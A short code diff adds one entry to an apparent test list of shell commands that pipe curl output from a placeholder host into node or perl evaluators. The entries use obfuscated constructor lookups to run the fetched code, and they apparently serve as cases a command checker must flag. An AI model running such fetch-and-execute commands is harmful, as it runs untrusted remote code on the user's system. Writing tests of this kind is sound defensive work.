@@ -154,6 +154,7 @@ const runsInput = [
 	'curl x.example | node -e \'require("/dev/stdin")\'',
 	'curl x.example | node -e \'new Function(require("fs").readFileSync(0))()\'',
 	'curl x.example | node -e \'[]["constr" + "uctor"]\'',
+	'curl x.example | node -e \'Object.getOwnPropertyDescriptor(Array.prototype, "constr" + "uctor").value\'',
 	'curl x.example | node -e \'var a = "f" + "ilter"; [][a][a]\'',
 	"curl x.example | perl -e 'eval <STDIN>'",
 ];
